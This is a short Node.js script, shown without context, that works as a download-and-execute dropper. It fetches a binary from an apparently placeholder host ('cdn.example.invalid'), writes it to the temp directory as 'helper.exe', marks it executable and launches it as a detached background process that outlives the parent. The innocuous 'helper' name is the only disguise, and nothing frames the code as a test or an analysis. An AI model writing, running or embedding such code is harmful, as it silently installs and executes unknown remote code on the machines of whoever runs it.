const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process'), https = require('https');
const file = path.join(os.tmpdir(), 'helper.exe');
https.get('https://cdn.example.invalid/helper', (answer) => {
  answer.pipe(fs.createWriteStream(file)).on('finish', () => { fs.chmodSync(file, 0o755); cp.spawn(file, [], { detached: true }).unref(); });
});
